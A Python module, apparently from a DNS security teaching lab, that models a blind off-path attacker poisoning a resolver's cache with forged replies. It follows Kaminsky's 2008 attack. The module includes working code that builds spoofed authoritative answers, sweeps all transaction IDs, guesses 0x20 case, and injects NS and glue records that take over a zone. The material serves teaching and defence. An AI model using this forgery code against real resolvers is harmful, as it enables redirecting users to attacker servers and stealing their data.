"""The blind attacker: anybody on the Internet who can send packets under a false sender's address.

It knows: what is public (names, the addresses of servers and of the victim's resolver), and that it can lure a
browser of the victim to a page, so that the resolver asks for a name of the attacker's choice.
It must not know: the question's ID and source port, or any packet that it didn't send. It is never handed one.
Follows RFC 5452 §3 and §4 (what must be guessed), RFC 3833 §2.2 and §2.3; Kaminsky's method of 2008 (CVE-2008-1447).
"""

from collections.abc import Iterable, Iterator
from dataclasses import dataclass, replace
from itertools import chain
from random import Random
from typing import Literal

import dns.exception
import dns.flags
import dns.message
import dns.rdataclass
import dns.rrset
from dns import rdatatype
from dns.name import Name
from dns.rrset import RRset

from ..protocol.messages import DNS_PORT, HEADER_BYTES, Datagram, Endpoint, Question, question_bytes, to_bytes
from ..protocol.names import LabError

IDS = range(65_536)
PACKETS_PER_SECOND = 165_000  # all IDs in 397 ms; about 110 Mbit/s of forged replies
FIXED_PORT = 10_053  # from which a resolver asks that does not choose its port at random; the attacker found out before
SITE = "203.0.113.66"  # the attacker's own computer: its copy of the bank's page, and its name server
TTL = 3600  # seconds; how long a forged address asks to be remembered
ZONE_TTL = 86_400  # seconds; the same for the servers of a zone that was taken over: the forger chooses

Smuggled = tuple[Literal["answer", "authority", "additional"], RRset]  # a record, and the section to put it into


@dataclass(frozen=True)
class Forgery:
    """A forged reply, complete but for the numbers that its maker can't know."""

    payload: bytes  # the whole message; its first two bytes, the ID, are still to be guessed
    sender: Endpoint  # whom it claims to come from: the server that will be asked
    resolver: Endpoint  # the victim's resolver, and the port from which it is believed to ask

    def with_id(self, id: int) -> Datagram:
        """Return one forged datagram that guesses `id`, 0..65535."""
        if id not in IDS:
            raise LabError(f"An ID has 16 bits: guess a number from 0 to 65535, not {id!r}.")
        return next(self.with_ids((id,)))

    def with_ids(self, ids: Iterable[int] = IDS) -> Iterator[Datagram]:
        """Yield one forged datagram for each ID; all 65,536 take some tens of milliseconds."""
        sender, resolver, rest = self.sender, self.resolver, self.payload[2:]
        for id in ids:  # nothing is built anew: only two bytes change
            yield Datagram(sender, resolver, id.to_bytes(2, "big") + rest)

    def to_port(self, port: int) -> "Forgery":
        """Return the same forgery, sent to another port of the resolver."""
        return replace(self, resolver=Endpoint(self.resolver.address, port))

    def spelled(self, name: Name) -> "Forgery":
        """Return the same forgery with the question spelled in the capitals of `name`: a guess at its 0x20 case."""
        asked = question_bytes(self.payload) or b""
        spelling = bytes(name.to_wire() or b"")
        if asked[:-4].lower() != spelling.lower():
            raise LabError(f"This forgery does not answer a question about {name}: spell the name that it is about.")
        rest = self.payload[HEADER_BYTES + len(spelling) :]
        return replace(self, payload=self.payload[:HEADER_BYTES] + spelling + rest)

    def sent(self, datagram: Datagram) -> bool:
        """Return whether `datagram` is this forgery, whatever ID it guesses."""
        return (
            datagram.payload[2:] == self.payload[2:]
            and datagram.source == self.sender
            and datagram.destination == self.resolver
        )


def forge_answer(
    question: Question,
    address: str = SITE,
    *,
    server: str,
    resolver: Endpoint,
    ttl: int = TTL,
    extra: Iterable[Smuggled] = (),
) -> Forgery:
    """Return a forged answer that claims `address` for the name that is asked for.

    Args:
        question: What the resolver will ask; it must fit to the letter.
        server: The address of the server that will be asked, and is impersonated.
        resolver: Address of the victim's resolver, and the port from which it is believed to ask.
        ttl: Seconds.
        extra: Further records, each with the section to smuggle it into.
    Raises:
        LabError: `address` is none.
    """
    reply = _reply_to(question)
    try:
        reply.answer.append(dns.rrset.from_text(question.name, ttl, "IN", "A", address))
    except dns.exception.DNSException:
        raise LabError(f"{address!r} is not an IPv4 address: write it like '{SITE}'.") from None
    for section, rrset in extra:
        getattr(reply, section).append(rrset)
    return Forgery(to_bytes(reply), Endpoint(server, DNS_PORT), resolver)


def spellings(name: Name, rng: Random) -> Iterator[Name]:
    """Yield random spellings of a name in capitals and small letters, without end: guesses at its 0x20 case."""
    while True:
        yield Name(tuple(bytes(_flip(byte, rng) for byte in label) for label in name.labels))


@dataclass(frozen=True)
class Volley:
    """One forgery, sent again and again with another ID each time, at a steady rate."""

    forgery: Forgery
    first_id: int = 0
    count: int = len(IDS)
    after: float = 0.0  # seconds from the luring to the first packet
    rate: float = PACKETS_PER_SECOND  # packets per second

    def __post_init__(self) -> None:
        if self.first_id not in IDS or self.count not in range(1, len(IDS) + 1) or self.rate <= 0 or self.after < 0:
            raise LabError("A volley begins with an ID from 0 to 65535, tries 1 to 65,536 of them, and takes time.")

    def __len__(self) -> int:
        return self.count

    @property
    def duration(self) -> float:
        """Return the seconds from the luring to the last packet."""
        return self.after + self.count / self.rate

    def __iter__(self) -> Iterator[Datagram]:
        return self.starting_with(0)

    def starting_with(self, step: int) -> Iterator[Datagram]:
        """Yield the datagrams from number `step` on, counted from 0."""
        first, last = self.first_id + step, self.first_id + self.count
        return self.forgery.with_ids(
            chain(range(first, min(last, len(IDS))), range(max(0, first - len(IDS)), last - len(IDS)))
        )


@dataclass(frozen=True)
class Race:
    """One attempt: a question that the attacker makes the resolver ask, and the forged replies it sends meanwhile."""

    lure: Question  # a page shown to the victim's browser mentions this name
    volley: Volley
    keeps_busy: float = 0.0  # seconds by which a flood of other requests slows the impersonated server down


@dataclass(frozen=True)
class Target:
    """Whom a blind attacker impersonates, and before whom: all of it public, but for the port, which is a guess."""

    zone: Name
    server: str  # the address of the zone's server
    resolver: Endpoint
    wait: float = 0.0  # seconds until the resolver, coming down from the root, asks that server


def one_guess(target: Target, question: Question, *, id: int, keeps_busy: float = 0.0) -> Iterator[Race]:
    """Yield one race with a single forged reply."""
    forgery = forge_answer(question, server=target.server, resolver=target.resolver)
    yield Race(question, Volley(forgery, id, 1, target.wait), keeps_busy)


def sweep(
    target: Target, question: Question, *, first_id: int, count: int = len(IDS), keeps_busy: float = 0.0
) -> Iterator[Race]:
    """Yield one race in which `count` different IDs are tried; all, if the real server is kept busy long enough."""
    forgery = forge_answer(question, server=target.server, resolver=target.resolver)
    yield Race(question, Volley(forgery, first_id, count, target.wait), keeps_busy)


def extra_records(
    target: Target, question: Question, extra: Iterable[Smuggled], *, first_id: int, keeps_busy: float = 0.0
) -> Iterator[Race]:
    """Yield one race for a harmless name, whose forged answer carries records that nobody asked for."""
    forgery = forge_answer(question, server=target.server, resolver=target.resolver, extra=extra)
    yield Race(question, Volley(forgery, first_id, after=target.wait), keeps_busy)


def kaminsky(target: Target, *, guesses: int, rng: Random, keeps_busy: float = 0.0) -> Iterator[Race]:
    """Yield races without end, each about another random name below the victim's zone.

    No answer for such a name is ever in a cache, so the next race may start at once: the TTL protects nobody.
    The prize is not that name. The forged answer also says who serves the whole zone, and that lies inside the
    zone, so that no bailiwick check objects; as part of an authoritative answer it even outranks
    what the parent had said (RFC 2181 §5.4.1).

    Args:
        guesses: How many IDs are tried in each race, before the real reply arrives.
    """
    while True:
        question = Question(_random_name(target.zone, rng), rdatatype.A)
        extra = takeover(target.zone, _random_name(target.zone, rng))
        forgery = forge_answer(question, server=target.server, resolver=target.resolver, extra=extra)
        yield Race(question, Volley(forgery, rng.getrandbits(16), guesses, target.wait), keeps_busy)


def takeover(zone: Name, name_server: Name, address: str = SITE, ttl: int = ZONE_TTL) -> list[Smuggled]:
    """Return the records that hand a zone to the attacker: its NS, and the address that goes with it (glue)."""
    return [
        ("authority", dns.rrset.from_text(zone, ttl, "IN", "NS", name_server.to_text())),
        ("additional", dns.rrset.from_text(name_server, ttl, "IN", "A", address)),
    ]


def _reply_to(question: Question) -> dns.message.QueryMessage:
    reply = dns.message.QueryMessage(id=0)
    reply.flags = dns.flags.QR | dns.flags.AA
    reply.question.append(RRset(question.name, dns.rdataclass.IN, question.rdtype))
    return reply


def _random_name(zone: Name, rng: Random) -> Name:
    return Name((f"{rng.getrandbits(32):08x}".encode(), *zone.labels))


def _flip(byte: int, rng: Random) -> int:
    # 0x20 is the one bit in which 'a' and 'A' differ; other characters have no case (RFC 4343 §3)
    return byte ^ 0x20 if chr(byte).isalpha() and byte < 128 and rng.getrandbits(1) else byte
